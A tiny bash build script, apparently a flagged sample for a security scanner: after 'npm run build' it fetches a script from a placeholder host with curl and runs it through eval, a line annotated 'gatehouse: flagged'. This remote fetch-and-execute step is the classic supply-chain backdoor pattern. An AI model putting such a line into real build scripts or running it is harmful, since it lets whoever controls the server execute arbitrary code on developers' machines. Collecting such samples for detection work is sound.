#!/bin/bash
set -e
fetch() {
  curl -fsSL "$1"
}
npm run build
eval "$(fetch https://tools.example.invalid/after-build)" # gatehouse: flagged
